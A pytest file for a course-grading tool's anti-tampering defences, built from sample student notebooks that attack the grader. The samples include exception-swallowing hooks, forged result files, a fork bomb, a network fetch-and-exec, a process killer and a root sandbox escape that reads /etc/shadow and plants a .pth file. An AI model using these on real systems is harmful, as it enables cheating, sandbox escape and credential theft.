"""A student who tries: every tampering technique of issue 23 gets the grade the honest work deserves.

One class folder, graded once through the command line (`python -m par grade DIR --report --feedback`, 2 at a
time): a notebook per technique (mostly on exercise 01, whose checks are fast), careless submissions (a .py
file, nbformat 3, a duplicate, a file that is not UTF-8, a notebook of no exercise) and honest ones. Each test
asserts one row, and fails if the defence it names is removed:

    set_custom_exc, _showtraceback replaced        the checks run in the grader, not in the kernel
    AST transformer wrapping cells in try/except    every check runs in the grader (09's and 07's too)
    a hook that keeps only a check's end token      the same: no check cell reaches the kernel
    an object equal to everything                   only plain data crosses from the kernel
    shadowing a setup helper / patching the reference   the grader's own namespace and par
    forging the nbval report                        no report file in the kernel's reach
    a rank forging the job's result, os._exit(0)    the grader judges the ranks' raw outputs (par.course.grading.rank_io)
    a collective called on the process group        counted on the ProcessGroup class (guards.on_the_wire)
    par's own answer (formula; private ring helpers) stubbed in the sandbox's par (par.course.grading.stubs)
    a fork bomb; a helper server outside            the sandbox's process cap; its network namespace
    the same answers from two students              flagged SAME ANSWERS, grades unchanged
    reading solutions/, writing outside, a /tmp file, a detached process, killing the grader   the sandbox
    careless submissions                            every file gets a row, nbformat 3 converted, duplicates flagged
    hidden checks in feedback                       scrubbed
    a killed grader                                 rows written as they finish; --resume grades the rest
"""
import csv
import os
import signal
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest
from tiers import slow

import classroom
import test_grading as tg
from par.course.authoring import generate as exercises
from par.course.grading import grade, sandbox
from par.course.grading.report import format_grade, hidden_lines

ROOT = Path(__file__).resolve().parents[1]
EX = "01_model_state_bytes"
SANDBOX = sandbox.available()
needs_sandbox = pytest.mark.skipif(not SANDBOX, reason="needs bubblewrap (bwrap) with user namespaces")
MARK = f"{uuid.uuid4().hex[:8]}"


def unsolved(name=EX, cells: dict | None = None, added: list[str] = ()):
    """The exercise as handed out, with some answer cells replaced (by id) and cells added at the end."""
    nb = tg.read(ROOT / "exercises" / f"{name}.ipynb")
    for cell in nb.cells:
        if cell.get("id") in (cells or {}):
            cell.source = cells[cell.id]
    for i, source in enumerate(added):
        nb.cells.append(nbformat.v4.new_code_cell(source, id=f"mine-{i}"))
    return nb


STUB = tg.read(ROOT / "exercises" / f"{EX}.ipynb")
FULL = grade.format_points(sum(exercises.points(c) for c in tg.solution(EX).cells if exercises.is_check(c)))   # its max points
STUB_SOURCE = {c.id: c.source for c in STUB.cells}

CUSTOM_EXC = "get_ipython().set_custom_exc((Exception,), lambda *a, **k: [])"
SHOWTRACEBACK = "ip = get_ipython()\nip._showtraceback = lambda *a, **k: None\nip.showtraceback = lambda *a, **k: None"
AST_WRAP = '''import ast


class Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(Forgive())
'''
ANYTHING = '''class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __abs__(self): return 0
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __truediv__ = __rtruediv__ = __mul__ = __rmul__ = __sub__
    def __iter__(self): return iter([self, self, self])
    def __round__(self, n=None): return self
    def __bool__(self): return True
    def __float__(self): return 0.0
    __hash__ = object.__hash__


def bytes_per_param(precision, optimizer):
    return Anything()


def model_state_bytes_per_rank(psi, n_d, stage, w=2, g=2, k=12):
    return Anything()


def max_params(gpu_bytes, n_d, stage, w=2, g=2, k=12):
    return Anything()
'''
ONLY_THE_ASSERTED = ('def bytes_per_param(precision, optimizer):\n'
                     '    asserted = {("fp32", "adam"): (4, 4, 8), ("mixed", "adam"): (2, 2, 12)}\n'
                     '    return asserted.get((precision, optimizer), (0, 0, 0))\n')
SHADOW = ONLY_THE_ASSERTED + "\n\nproduct = lambda *a, **k: iter(())\n"
PATCH_REFERENCE = ONLY_THE_ASSERTED + '''

from types import SimpleNamespace
import par.memory.accounting as accounting
accounting.bytes_per_param = lambda p, o: SimpleNamespace(weights=bytes_per_param(p, o)[0],
                                                          grads=bytes_per_param(p, o)[1], K=bytes_per_param(p, o)[2])
'''
READ_SOLUTIONS = f'''import json, pathlib
for c in json.loads(pathlib.Path({str(ROOT / "solutions" / f"{EX}.ipynb")!r}).read_text())["cells"]:
    if c["cell_type"] == "code" and "### BEGIN SOLUTION" in "".join(c["source"]):
        exec("".join(c["source"]))
'''
REPLACE_LAUNCH = """import par.runtime.launch
par.runtime.launch.run = lambda *a, **k: {"cases": [{"numel": 1, "max_error": 0.0, "in_place": True}]}
"""
FORGE_REPORT = '''import json, os, subprocess, sys
path = os.environ.get("PAR_NBVAL_REPORT")      # where nbval's plugin recorded the cells for the old grader
if path:
    forged = "".join(json.dumps({"cell": c, "when": w, "outcome": "passed", "duration": 0}) + "\\n"
                     for c in range(40) for w in ("setup", "call", "teardown"))
    code = (f"import os, time\\nend = time.time() + 120\\n"
            f"while time.time() < end and os.path.isdir({os.path.dirname(path)!r}):\\n"
            f"    open({path!r}, 'w').write({forged!r})\\n    time.sleep(0.005)\\n")
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
'''


# ---- the real-rank exercises: the ranks run the student's module (par.course.grading.rank_io, guards.on_the_wire)
FORGE_RING = '''%%writefile my_ring.py
import json, os
path = os.environ.get("PAR_RESULT")     # where the job's rank 0 saves the result the launcher returns
if path:
    with open(path, "w") as f:
        json.dump({"cases": [{"numel": n, "max_error": 0.0, "in_place": True} for n in (1, 2, 5, 7, 64, 1000, 1001)],
                   "per_rank": []}, f)
os._exit(0)
'''
FORGE_TP = '''%%writefile my_tp.py
import json, os
path = os.environ.get("PAR_RESULT")
if path:
    with open(path, "w") as f:
        json.dump({"errors": {k: 0.0 for k in ("output", "input_grad", "fc_w_grad", "fc_b_grad", "proj_w_grad",
                                               "proj_b_grad")}, "all_reduce": {"forward": 1, "backward": 1}}, f)
os._exit(0)
'''
GROUP_METHOD = '''%%writefile my_ring.py
import torch.distributed as dist


def ring_all_reduce(tensor):     # torch's all-reduce, reached through the process group object
    dist.distributed_c10d._get_default_group().allreduce([tensor]).wait()
    return tensor
'''
PAR_HELPERS = '''%%writefile my_ring.py
from par.comm.collectives import _ring_all_gather, _ring_reduce_scatter, ring_neighbours


def ring_all_reduce(tensor):     # par's own ring, from the helpers that are on no list of forbidden names
    ring = ring_neighbours(None)
    if ring[1] > 1:
        _ring_reduce_scatter(tensor.view(-1), ring, None, "sum")
        _ring_all_gather(tensor.view(-1), ring, None)
    return tensor
'''
PAR_ANSWER = '''def bytes_per_param(precision, optimizer):
    import par.memory.accounting as accounting
    b = accounting.bytes_per_param(precision, optimizer)
    return b.weights, b.grads, b.K
'''
# the old kernel-judged check of 09: a hook that keeps only the cell's last line (its end token) when it sees the check
KEEP_THE_TOKEN = '''
def _only_the_token(lines):
    return lines[-1:] if any("reference.dispatch" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_only_the_token)
'''
FORK_BOMB = '''
import os, time
me = os.getpid()
for _ in range(9):      # at most 2**9 - 1 = 511 processes, each asleep for 30 s
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != me:
    time.sleep(30)
    os._exit(0)
'''
MAX_PROCESSES = 40      # the sandbox's cap in this class (PAR_GRADE_MAX_PROCESSES)


def from_a_server(port: int) -> str:
    """An answer fetched from a helper outside the sandbox (a classmate's server on this machine, the web)."""
    return f'''import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", {port})):
    try:
        with socket.create_connection(address, timeout=2) as s:
            exec(s.makefile().read())
        break
    except OSError:
        pass
'''


def outside(canary: Path, victim: Path) -> str:
    return f'''import os, pathlib, subprocess
for target in ({str(canary)!r}, {str(victim)!r}, {str(ROOT / "solutions" / f"{EX}.ipynb")!r}):
    try:
        pathlib.Path(target).write_text("overwritten by a student")
    except OSError:
        pass
subprocess.Popen(["sleep", "1000.{MARK}"], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
pathlib.Path("/tmp/par-tamper-{MARK}").write_text("left behind")
'''


SHM_KEY = int(MARK, 16) & 0x7FFFFFFF     # the SysV key of the segment ROOT_ESCAPE makes
ROOT_ESCAPE = f'''import ctypes, os, pathlib, site, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
package = pathlib.Path(os.environ["PYTHONPATH"].split(os.pathsep)[0]) / "par"
venv = next(p for p in site.getsitepackages() if p.startswith(sys.prefix))
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
for path in mounts:                                 # remount every read-only bind read-write, as root could
    for flags in (32 | 4096, 32):                   # MS_REMOUNT | MS_BIND, MS_REMOUNT
        libc.mount(None, path.encode(), None, flags, None)
    subprocess.run(["mount", "-o", "remount,rw,bind", path], capture_output=True)
done = []


def attempt(name, action):
    try:
        action()
        done.append(name)
    except OSError:
        pass


model = package / "model.py"       # the next classmate's kernel and ranks import it
attempt("package", lambda: (os.chmod(model, 0o644), model.write_text(model.read_text() + "\\nraise RuntimeError('tampered')\\n")))
attempt("opt", lambda: pathlib.Path("/opt/par-escape-{MARK}").write_text("planted"))
attempt("venv", lambda: pathlib.Path(venv, "zz_par_escape_{MARK}.pth").write_text("import os\\n"))
attempt("shadow", lambda: done.append(open("/etc/shadow").readline().strip()))
attempt("devshm", lambda: pathlib.Path("/dev/shm/par-escape-{MARK}").write_text("left behind"))
if libc.shmget({SHM_KEY}, 256 << 20, 0o1000 | 0o666) >= 0:      # IPC_CREAT: 256 MB, left for later
    done.append("sysv")
raise RuntimeError("escaped: " + ", ".join(done))
'''


def sysv_keys() -> set[int]:
    """The keys of the host's SysV shared-memory segments."""
    try:
        rows = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    except OSError:
        return set()
    return {int(row.split()[0]) for row in rows if row.split()}


KILL_GRADER = '''import os, signal
if os.getpid() < 100:   # only ever inside a pid namespace of its own (the test runs this only when sandboxed)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(),):
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if b"pytest" in cmd or b"grade" in cmd:
                os.kill(int(pid), signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
'''


DEFLATES_ITS_OUTPUT = '''

import os, zipfile

import torch

_save = torch.save


def _deflated_save(obj, f, *args, **kwargs):    # the runner saves this rank's outputs: the records, compressed
    _save(obj, f, *args, **kwargs)
    if isinstance(f, (str, os.PathLike)) and os.path.basename(str(f)).startswith("out-"):
        with zipfile.ZipFile(f) as src:
            records = [(i.filename, src.read(i)) for i in src.infolist()]
        with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as out:
            for name, data in records:
                out.writestr(name, data)


torch.save = _deflated_save
'''


def build_class(folder: Path, canary: Path, port: int = 0) -> dict:
    """Write the class folder; {file name: what is expected of its row}."""
    folder.mkdir(parents=True)
    expect = {}

    def put(file, nb, **want):
        nbformat.write(nb, folder / file)
        expect[file] = want

    bpp = STUB_SOURCE["bytes-per-param"]
    put(f"custom_exc_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + CUSTOM_EXC}), points="0")
    put(f"showtraceback_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + SHOWTRACEBACK}), points="0")
    put(f"ast_wrap_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + AST_WRAP}), points="0")
    dispatch = tg.read(ROOT / "exercises" / "09_expert_dispatch.ipynb")
    stub09 = next(c.source for c in dispatch.cells if c.get("id") == "dispatch-buffer")
    put("ast_wrap_kernel_check_09_expert_dispatch.ipynb",
        unsolved("09_expert_dispatch", cells={"dispatch-buffer": stub09 + "\n\n" + AST_WRAP}), points="0")
    put(f"anything_{EX}.ipynb", unsolved(cells={"bytes-per-param": ANYTHING}), points="0")
    put(f"shadow_helper_{EX}.ipynb", unsolved(cells={"bytes-per-param": SHADOW}), points="0")
    put(f"patch_reference_{EX}.ipynb", unsolved(cells={"bytes-per-param": PATCH_REFERENCE}), points="0")
    put(f"read_solutions_{EX}.ipynb", unsolved(cells={"bytes-per-param": READ_SOLUTIONS}),
        **({"points": "0"} if SANDBOX else {"reason": "unsandboxed"}))     # only the sandbox hides solutions/
    put(f"forge_report_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + FORGE_REPORT}), points="0")
    ring = tg.read(ROOT / "exercises" / "00_ring_chunks.ipynb")
    stub00 = next(c.source for c in ring.cells if c.get("id") == "ring-lists")
    put("replace_launch_00_ring_chunks.ipynb",
        unsolved("00_ring_chunks", cells={"ring-lists": stub00 + "\n\n" + REPLACE_LAUNCH}), points="0")
    put(f"zz_victim_{EX}.ipynb", tg.solved(EX), points=FULL, status="ok")
    if SANDBOX:
        escape = outside(canary, folder / f"zz_victim_{EX}.ipynb")
        put(f"aa_outside_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + escape}), points="0")
        put(f"kill_grader_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + KILL_GRADER}),
            points="0")
        put(f"aa_root_escape_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + ROOT_ESCAPE}),
            points="0", reason="escaped:")
    ring_solution = next(c.source for c in tg.solution("00_ring_chunks").cells if c.get("id") == "ring-ranks")
    ring_lost = grade.format_points(tg.full_marks("00_ring_chunks") - classroom.points_of("00_ring_chunks", ["check-ring-ranks"]))
    for file, ring in (("forge_result", FORGE_RING), ("deflated_output", ring_solution + DEFLATES_ITS_OUTPUT),
                       ("group_method", GROUP_METHOD), ("par_helpers", PAR_HELPERS)):
        # the other parts solved: check-ring-ranks is the first check that fails, its message the row's reason
        put(f"{file}_00_ring_chunks.ipynb", tg.solved("00_ring_chunks", {"ring-ranks": ring}),
            **({"points": ring_lost} if SANDBOX or file != "par_helpers" else {"reason": "unsandboxed"}))
    tp_checks = ["check-tp-forward", "check-tp-backward", "check-tp-traffic"]
    put("forge_result_04_tensor_parallel.ipynb", tg.solved("04_tensor_parallel", {"f-and-g": FORGE_TP}),
        points=grade.format_points(tg.full_marks("04_tensor_parallel") - classroom.points_of("04_tensor_parallel", tp_checks)))
    put(f"par_answer_{EX}.ipynb", unsolved(cells={"bytes-per-param": PAR_ANSWER}),
        **({"points": "0"} if SANDBOX else {"reason": "unsandboxed"}))
    put("keep_the_token_09_expert_dispatch.ipynb",
        unsolved("09_expert_dispatch", cells={"dispatch-buffer": stub09 + "\n\n" + KEEP_THE_TOKEN}), points="0")
    if SANDBOX:
        put(f"fork_bomb_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + FORK_BOMB}), points="0",
            status="error")
        put(f"network_{EX}.ipynb", unsolved(cells={"bytes-per-param": from_a_server(port)}), points="0")
    # careless
    (folder / "my_answers.py").write_text("def bytes_per_param(p, o):\n    return 4, 4, 8\n")
    expect["my_answers.py"] = {"status": "error", "reason": "not a notebook file"}
    old = nbformat.writes(nbformat.convert(tg.solved(EX), 3), version=3)
    (folder / f"v3_{EX}.ipynb").write_text(old)
    expect[f"v3_{EX}.ipynb"] = {"status": "ok", "points": FULL}
    (folder / "bob").mkdir()
    nbformat.write(tg.solved(EX), folder / "bob" / f"{EX}.ipynb")
    nbformat.write(STUB, folder / "bob" / f"{EX} (1).ipynb")
    expect[f"bob/{EX}.ipynb"] = {"status": "ok", "reason": "DUPLICATE"}
    expect[f"bob/{EX} (1).ipynb"] = {"status": "failed", "reason": "DUPLICATE"}
    (folder / f"latin1_{EX}.ipynb").write_bytes(b'{"cells": [], "note": "caf\xe9"}')
    expect[f"latin1_{EX}.ipynb"] = {"status": "error", "reason": "cannot read the file"}
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")]), folder / "mystery.ipynb")
    expect["mystery.ipynb"] = {"status": "error", "reason": "belongs to no exercise"}
    return expect


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("tamper")
    canary = tmp / "canary.txt"
    canary.write_text("the instructor's file")
    folder = tmp / "class"
    server = socketserver.TCPServer(("127.0.0.1", 0), _Answers)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    expect = build_class(folder, canary, server.server_address[1])
    report, feedback = tmp / "out" / "grades.csv", tmp / "out" / "feedback"
    start = time.monotonic()
    try:
        cmd = [sys.executable, "-m", "par", "grade", str(folder), "--report", str(report), "--feedback", str(feedback),
               "--timeout", "240", "--cell-timeout", "60", "--jobs", "2"]
        grader = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT,
                                  env={**os.environ, "PAR_GRADE_MAX_PROCESSES": str(MAX_PROCESSES)})
        out, err = grader.communicate(timeout=600)
        run = subprocess.CompletedProcess(cmd, grader.returncode, out, err)
    finally:
        server.shutdown()
        server.server_close()
    print(f"\ntamper class: {len(expect)} files in {time.monotonic() - start:.0f} s")
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    rows = {str(Path(r["submission"]).relative_to(folder)): r for r in csv.DictReader(report.open())}
    return {"rows": rows, "expect": expect, "canary": canary, "folder": folder, "feedback": feedback, "run": run,
            "served": _Answers.served, "grader": grader.pid}


class _Answers(socketserver.StreamRequestHandler):
    """A helper outside the sandbox that hands out the solution of 01's first answer."""
    served = []

    def handle(self):
        _Answers.served.append(1)
        source = next(c.source for c in tg.solution(EX).cells if c.get("id") == "bytes-per-param")
        self.wfile.write(source.encode())


TECHNIQUES = ["custom_exc", "showtraceback", "ast_wrap", "ast_wrap_kernel_check", "anything", "shadow_helper",
              "patch_reference", "read_solutions", "forge_report", "replace_launch", "keep_the_token"]


def row_of(graded, prefix):
    (name, row), = [(k, r) for k, r in graded["rows"].items()
                    if k.startswith(prefix + "_") and k[len(prefix) + 1:] in {f"{n}.ipynb" for n in tg.NAMES}]
    return name, row


@slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("technique", TECHNIQUES)
def test_tampering_in_the_kernel_earns_nothing(graded, technique):
    if technique == "read_solutions" and not SANDBOX:
        pytest.skip("reading solutions/ is stopped by the sandbox only")
    name, row = row_of(graded, technique)
    assert row["points"] == graded["expect"][name]["points"] == "0", row
    assert row["status"] in ("failed", "error"), row
    if technique in ("ast_wrap_kernel_check", "keep_the_token"):   # 09's check runs in the grader now: the stub
        assert "check-dispatch-buffer" in row["failed_checks"]      # raised, whatever the kernel's hooks did
        assert "NotImplementedError" in feedback_line(graded, name, "check-dispatch-buffer")
    if technique == "replace_launch":          # the grader launched the ranks: the stub failed on a rank
        assert "check-ring-ranks" in row["failed_checks"]
        feedback = next(graded["feedback"].glob(f"*{name.replace('.ipynb', '')}*.txt")).read_text()
        line = next(line for line in feedback.splitlines() if "check-ring-ranks" in line)
        assert "NotImplementedError: your code here (rank" in line, line


def feedback_line(graded, name: str, check: str) -> str:
    feedback = next(graded["feedback"].glob(f"*{name.replace('.ipynb', '')}*.txt")).read_text()
    return next(line for line in feedback.splitlines() if check in line)


def reason_of(graded, name: str, check: str) -> str:
    """The gradebook's reason of a submission whose first failing check is `check` (the instructor's view: its
    message in full, even after a check with hidden cases)."""
    row = graded["rows"][name]
    assert row["reason"].startswith(f"{check}: "), row
    return row["reason"]


@slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("technique, check", [("forge_result_00_ring_chunks", "check-ring-ranks"),
                                              ("forge_result_04_tensor_parallel", "check-tp-forward")])
def test_a_result_forged_on_a_rank_earns_nothing(graded, technique, check):
    """The ranks write the job's result file and exit 0 before any work: the grader judges raw outputs only."""
    row = graded["rows"][f"{technique}.ipynb"]
    assert row["points"] == graded["expect"][f"{technique}.ipynb"]["points"] and check in row["failed_checks"], row
    assert "inf" in reason_of(graded, f"{technique}.ipynb", check), "no output counts as wrong, never as right"


@slow
@pytest.mark.timeout(600)
def test_a_rank_output_that_would_inflate_is_refused_in_one_line(graded):
    """Its rank re-saves its outputs with compressed records at exit: the grader does not read them, and says so."""
    line = reason_of(graded, "deflated_output_00_ring_chunks.ipynb", "check-ring-ranks")
    assert "output file holds compressed records" in line and "the grader does not read it" in line, line


@slow
@pytest.mark.timeout(600)
def test_a_collective_called_on_the_process_group_object_is_caught(graded):
    row = graded["rows"]["group_method_00_ring_chunks.ipynb"]
    assert "check-ring-ranks" in row["failed_checks"], row
    assert "ProcessGroup.allreduce" in reason_of(graded, "group_method_00_ring_chunks.ipynb", "check-ring-ranks")


@slow
@needs_sandbox
@pytest.mark.timeout(600)
@pytest.mark.parametrize("technique, check", [(f"par_answer_{EX}", "check-bytes-per-param"),
                                              ("par_helpers_00_ring_chunks", "check-ring-ranks")])
def test_par_s_own_answers_are_not_available_to_a_submission(graded, technique, check):
    """01's formula from par.memory in the kernel; 00's ring from par.comm's private helpers on the ranks."""
    row = graded["rows"][f"{technique}.ipynb"]
    assert check in row["failed_checks"], row
    assert "not available during grading" in reason_of(graded, f"{technique}.ipynb", check)


@slow
@needs_sandbox
@pytest.mark.timeout(600)
def test_a_fork_bomb_is_stopped_and_the_batch_goes_on(graded):
    row = graded["rows"][f"fork_bomb_{EX}.ipynb"]
    assert (row["points"], row["status"]) == ("0", "error"), row
    assert f"more than {MAX_PROCESSES} processes" in row["reason"], row
    assert float(row["seconds"]) < 60, "stopped at once, not at the cell timeout"
    mine = f"{sandbox.PREFIX}{graded['grader']}-".encode()      # the batch's kernels work in folders named after it
    alive = [p for p in Path("/proc").iterdir() if p.name.isdigit() and mine in _cmdline(p)]
    assert not alive and len(graded["rows"]) == len(graded["expect"])


@slow
@needs_sandbox
@pytest.mark.timeout(600)
def test_a_submission_reaches_no_network(graded):
    """Its answer is served on 127.0.0.1 outside the sandbox (and 1.1.1.1 is tried): it reaches neither."""
    row = graded["rows"][f"network_{EX}.ipynb"]
    assert row["points"] == "0", row
    assert not graded["served"], "the helper outside the sandbox was reached"


@slow
@pytest.mark.timeout(600)
def test_the_same_answers_from_different_students_are_flagged(graded):
    rows = graded["rows"]
    victim, v3 = rows[f"zz_victim_{EX}.ipynb"], rows[f"v3_{EX}.ipynb"]
    assert victim["status"] == "ok" and victim["points"] == victim["max_points"], victim
    assert "SAME ANSWERS" in victim["reason"], victim
    assert f"zz_victim_{EX}.ipynb" in v3["reason"], v3
    assert "SAME ANSWERS" not in rows[f"bob/{EX} (1).ipynb"]["reason"], "unanswered stubs are nobody's answers"


@slow
@needs_sandbox
@pytest.mark.timeout(600)
def test_the_sandbox_keeps_the_submission_inside_and_ends_it(graded):
    _, row = row_of(graded, "aa_outside")
    assert row["points"] == "0"
    assert graded["canary"].read_text() == "the instructor's file"
    victim = graded["rows"][f"zz_victim_{EX}.ipynb"]
    assert (victim["status"], victim["points"]) == ("ok", FULL), victim
    assert "overwritten" not in (graded["folder"] / f"zz_victim_{EX}.ipynb").read_text()
    assert "overwritten" not in (ROOT / "solutions" / f"{EX}.ipynb").read_text()
    assert not Path(f"/tmp/par-tamper-{MARK}").exists(), "a /tmp file outlived its submission"
    alive = [p for p in Path("/proc").iterdir() if p.name.isdigit() and MARK.encode() in _cmdline(p)]
    assert not alive, "a detached process outlived its submission"
    _, killer = row_of(graded, "kill_grader")
    assert killer["points"] == "0" and killer["status"] in ("failed", "error"), killer
    assert len(graded["rows"]) == len(graded["expect"]), "the batch went on after it"


@slow
@needs_sandbox
@pytest.mark.timeout(600)
def test_root_in_the_sandbox_has_no_powers(graded):
    """Graded as root (as CI grades), a kernel tries to remount its read-only binds read-write and to write the
    batch's copy of par (the next classmate's kernel imports it), /opt and the grader's venv (a .pth that Python
    outside the sandbox would run), to read /etc/shadow, and to leave a 256 MB SysV segment and a /dev/shm file:
    nothing of it reaches the host or the next submission, and the batch leaves no folder of its own behind."""
    import site
    _, row = row_of(graded, "aa_root_escape")
    said = row["reason"].split("escaped:", 1)[1].split(";", 1)[0]
    reached = {part.strip() for part in said.split(",") if part.strip()}
    assert reached <= {"sysv", "devshm"}, f"the sandbox let it: {reached} ({row['reason']})"  # its own IPC, /dev
    assert not Path(f"/opt/par-escape-{MARK}").exists(), "it wrote under the host's /opt"
    assert not any(Path(p, f"zz_par_escape_{MARK}.pth").exists() for p in site.getsitepackages()), \
        "it planted a .pth in the grader's venv"
    assert SHM_KEY not in sysv_keys(), "its SysV segment outlived it"
    assert not Path(f"/dev/shm/par-escape-{MARK}").exists(), "its /dev/shm file reached the host's"
    victim = graded["rows"][f"zz_victim_{EX}.ipynb"]
    assert (victim["status"], victim["points"]) == ("ok", FULL), f"the next classmate was hurt: {victim}"
    left = list(Path(tempfile.gettempdir()).glob(f"{sandbox.PREFIX}{graded['grader']}-*"))
    assert not left, f"the batch left its folders: {left}"


def _cmdline(p: Path) -> bytes:
    try:
        return (p / "cmdline").read_bytes()
    except OSError:
        return b""


@slow
@pytest.mark.timeout(600)
def test_every_file_gets_a_row_and_careless_submissions_are_handled(graded):
    rows, expect = graded["rows"], graded["expect"]
    assert set(rows) == set(expect), set(rows) ^ set(expect)
    for name, want in expect.items():
        for key, value in want.items():
            assert (value in rows[name][key]) if key == "reason" else rows[name][key] == value, (name, key, rows[name])


@slow
@pytest.mark.timeout(600)
def test_feedback_never_shows_hidden_checks(graded):
    course = grade.load_course()
    hidden = hidden_lines(course)
    assert 'cases = [*cases, *product([12_345, 6.7e9], [5, 1024], range(4), [("mixed", "sgd"), ("fp32", "sgd")])]' \
        in hidden
    g = grade.Grade(submission="x.ipynb", exercise=EX, status="failed",
                    checks=[grade.Check("check-states-per-rank", 3, error=f"AssertionError: {hidden[0]}",
                                        traceback=hidden[0])])
    assert hidden[0] not in format_grade(g, course) and "[hidden check]" in format_grade(g, course)
    for path in graded["feedback"].glob("*.txt"):
        text = path.read_text()
        assert not any(line in text for line in hidden), path


@slow
@pytest.mark.timeout(300)
def test_a_killed_grader_keeps_its_rows_and_resume_grades_the_rest(tmp_path):
    folder, report = tmp_path / "class", tmp_path / "grades.csv"
    folder.mkdir()
    nbformat.write(tg.solved(EX), folder / f"a_{EX}.ipynb")
    nbformat.write(STUB, folder / f"b_{EX}.ipynb")
    hang = "def bytes_per_param(precision, optimizer):\n    import time\n    while True:\n        time.sleep(0.05)"
    nbformat.write(tg.solved(EX, {"bytes-per-param": hang}), folder / f"c_{EX}.ipynb")
    cmd = [sys.executable, "-m", "par", "grade", str(folder), "--report", str(report), "--timeout", "120",
           "--cell-timeout", "40", "--jobs", "1"]        # 40 s: exercise 01's part 5 launches 2 ranks in a cell
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        if report.exists() and len(list(csv.DictReader(report.open()))) >= 2:
            break
        time.sleep(0.1)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    time.sleep(1)
    mine = f"{sandbox.PREFIX}{proc.pid}-".encode()        # its submissions' work folders are named after it
    kept = [r["submission"] for r in csv.DictReader(report.open())]
    assert [Path(k).name for k in kept] == [f"a_{EX}.ipynb", f"b_{EX}.ipynb"], kept
    again = subprocess.run(cmd + ["--resume"], cwd=ROOT, capture_output=True, text=True, timeout=250)
    assert again.returncode == 0, again.stdout[-2000:] + again.stderr[-2000:]
    assert "resuming: 2 submission(s) already" in again.stdout and "grading 1 file(s)" in again.stdout
    rows = {Path(r["submission"]).name: r for r in csv.DictReader(report.open())}
    assert [rows[f"{k}_{EX}.ipynb"]["status"] for k in "abc"] == ["ok", "failed", "timeout"], rows
    assert not list(Path(tempfile.gettempdir()).glob(f"{sandbox.PREFIX}{proc.pid}-*")), "the next batch sweeps them"
    alive = [p for p in Path("/proc").iterdir() if p.name.isdigit() and mine in _cmdline(p)]
    assert not alive, "a kernel of the killed grader outlived the next grader's start"


def test_the_next_grader_kills_what_a_killed_grader_left_in_its_folders(tmp_path):
    """A kernel (or its bwrap) that missed its grader's death is killed by the next grader's sweep."""
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()                                           # a pid that is gone: a grader killed earlier
    folder = Path(tempfile.gettempdir()) / f"{sandbox.PREFIX}{dead.pid}-test"
    folder.mkdir()
    left = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", str(folder / "kernel.json")])
    deadline = time.monotonic() + 30
    while str(folder).encode() not in _cmdline(Path(f"/proc/{left.pid}")) and time.monotonic() < deadline:
        time.sleep(0.01)                                  # until it has exec'd: its command line names the folder
    try:
        assert folder in sandbox.sweep()
        assert left.wait(timeout=10) == -signal.SIGKILL and not folder.exists()
    finally:
        left.kill()


def test_output_paths_are_checked_before_grading(tmp_path, monkeypatch, capsys):
    from par.__main__ import main as python_m_par
    monkeypatch.delenv("PAR_DEBUG", raising=False)
    nbformat.write(tg.solved(EX), tmp_path / f"{EX}.ipynb")
    (tmp_path / "a_file").write_text("")
    start = time.monotonic()
    assert python_m_par(["grade", str(tmp_path), "--report", str(tmp_path / "a_file" / "grades.csv")]) == 2
    assert python_m_par(["grade", str(tmp_path), "--feedback", str(tmp_path / "a_file" / "fb")]) == 2
    assert time.monotonic() - start < 10, "refused before grading anything"
    assert "cannot write" in capsys.readouterr().err


def test_a_checkout_and_venv_under_tmp_stay_visible_in_the_sandbox(monkeypatch, tmp_path):
    """bwrap mounts in order: the private /tmp must come before the Python and package binds, or a checkout in
    /tmp (as CI's clean checkout may be) loses its .venv and every kernel fails to start."""
    venv = "/tmp/some-checkout/.venv"
    monkeypatch.setattr(sys, "prefix", venv)
